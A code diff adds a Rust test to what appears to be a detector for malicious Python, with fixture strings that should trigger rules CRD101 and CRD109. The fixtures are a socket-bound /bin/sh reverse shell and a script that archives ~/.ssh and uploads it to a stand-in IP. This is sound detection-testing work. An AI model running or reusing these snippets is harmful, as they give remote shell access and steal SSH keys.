@@ -741,6 +741,24 @@ fn review_of_the_days_mechanisms_false_positives_and_evasions() {
 }
 
 #[test]
+fn a_shell_given_a_socket_as_its_streams_or_credential_dirs_archived_and_sent() {
+    // `stdin=sock.fileno()` wires the shell to the remote party; a whole `~/.ssh` put in
+    // an archive is every key in it.
+    fires(
+        "CRD101",
+        "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.8', 9001))\nsubprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n",
+    );
+    fires(
+        "CRD109",
+        "import io, os, tarfile, urllib.request\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as t:\n    t.add(os.path.expanduser('~/.ssh'))\nurllib.request.urlopen('http://203.0.113.41/put', data=buf.getvalue())\n",
+    );
+    silent(
+        "CRD101",
+        "import socket, subprocess\ns = socket.create_connection(('127.0.0.1', 8000))\nsubprocess.run(['gzip', '-c', 'log.txt'], stdout=open('log.gz', 'wb'))\n",
+    );
+}
+
+#[test]
 fn decoded_code_is_analysed_as_code_too() {
     // exec of a base64 payload is decode-then-execute, and what it decodes to is read:
     // here a reverse shell.
